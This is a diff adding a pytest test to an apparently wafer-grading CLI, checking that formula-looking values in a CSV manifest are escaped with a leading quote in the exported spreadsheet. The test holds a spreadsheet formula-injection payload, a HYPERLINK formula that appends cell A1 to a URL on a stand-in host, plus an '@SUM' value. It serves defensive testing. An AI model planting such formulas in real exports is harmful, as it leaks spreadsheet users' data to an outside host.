@@ -257,3 +257,16 @@ def test_ray_engine_gives_the_local_result(graded: tuple[Path, dict], graded_lot
     local = _wafer_state(reference / "grade.sqlite")
     assert len(graded_by_ray) == 3
     assert all(graded_by_ray[w] == local[w] for w in graded_by_ray)
+
+
+def test_a_formula_in_a_manifest_never_reaches_a_spreadsheet_as_one(graded_lot_source: Path, tmp_path: Path) -> None:
+    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    manifest = tmp_path / "hostile.csv"
+    with manifest.open("w", newline="", encoding="utf-8") as handle:
+        csv.writer(handle).writerows([("image", "wafer_id", "lot_id"),
+                                      (str(graded_lot_source / "wafer-01.png"), hostile, "@SUM(1+1)")])
+    out = tmp_path / "out"
+    run_cli("grade", str(manifest), "--out", str(out), "--quiet", cwd=REPO_ROOT, timeout=300)
+    [row] = list(csv.DictReader((out / "wafers.csv").open(newline="", encoding="utf-8")))
+    assert row["wafer_id"] == "'" + hostile and row["lot_id"] == "'@SUM(1+1)"
+    assert [w["wafer_id"] for w in read_wafers(out / "grade.sqlite")] == [hostile]  # stored as given
